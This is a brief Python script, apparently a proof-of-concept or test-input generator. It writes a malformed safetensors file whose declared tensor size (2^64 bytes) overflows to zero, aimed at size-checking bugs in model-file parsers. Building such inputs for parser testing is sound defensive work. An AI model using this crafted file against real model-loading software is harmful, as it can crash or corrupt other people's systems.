"""huge_safetensors.py OUT: a safetensors file whose one tensor has 2^61 F64
elements (2^64 bytes, which wraps to 0) stored in 0 bytes."""
import json
import struct
import sys

header = json.dumps({"model.embed_tokens.weight": {
    "dtype": "F64", "shape": [2 ** 31, 2 ** 30], "data_offsets": [0, 0]}})
with open(sys.argv[1], "wb") as f:
    f.write(struct.pack("<Q", len(header)) + header.encode())
